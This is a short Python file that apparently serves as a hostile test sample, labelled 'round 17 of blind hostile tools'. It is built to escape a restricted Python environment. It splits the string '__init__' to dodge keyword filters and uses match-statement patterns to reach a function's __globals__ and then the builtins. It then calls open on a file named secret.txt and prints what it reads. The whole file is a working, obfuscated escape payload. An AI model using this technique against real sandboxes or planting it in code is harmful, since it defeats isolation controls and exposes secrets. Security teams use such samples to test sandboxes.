# family: match (written blind, round 17 of blind hostile tools)
"""Record pattern matching."""


class Record:
    __match_args__ = ("_" "_init_" "_",)

    def __init__(self, v=0):
        self.v = v


def unpack(r):
    match r:
        case Record(init):
            match init:
                case object(__globals__=g):
                    return g
    return {}


def demo():
    g = unpack(Record(1))
    b = g["__builtins__"]
    return (b if isinstance(b, dict) else b.__dict__)["open"]("/tmp/r17b/work/secret.txt").read()


print(demo())
